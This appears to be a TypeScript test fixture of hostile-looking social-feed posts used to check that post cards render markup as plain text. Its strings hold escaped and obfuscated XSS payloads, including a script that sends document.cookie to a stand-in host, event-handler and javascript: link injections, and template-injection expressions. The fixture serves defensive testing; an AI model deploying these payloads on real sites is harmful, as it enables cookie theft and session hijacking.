import { post, type Scene, scene } from './build.ts';

/**
 * Texts that look like markup to a reader, to prove cards render text as text. Real tags are
 * refused by the protocol (PLAIN_TEXT_MESSAGE), so these use what still gets through: escaped
 * entities, a zero-width space after '<', fullwidth brackets, `javascript:` and template syntax.
 */

const ZWSP = '\u200b';

export const HOSTILE_SCENES: Scene[] = [
  scene(
    'escaped script tag',
    post('wire', {
      text: "🚨 Scam alert: fake 'airdrop checker' asks you to paste this into the console: &lt;script&gt;fetch('https://drain.example/?c='+document.cookie)&lt;/script&gt; Never do it. Also never click javascript:alert(document.domain) links.",
    }),
  ),
  scene(
    'zero-width and fullwidth tags',
    post('tomas', {
      text: `bug bounty hunters, does your feed render this safely? <${ZWSP}img src=x onerror=alert(1)> and ＜script＞alert('gm')＜/script＞ should both show up as plain text 🧪`,
    }),
  ),
  scene(
    'template and attribute injection',
    post('whisper', {
      text: `$PEPE <3 and 1 < 2 but {{constructor.constructor('alert(1)')()}} and \${alert(document.cookie)} are not tickers "&gt;&lt;svg/onload=alert(1)&gt; [free coin](javascript:alert(1))`,
    }),
  ),
];
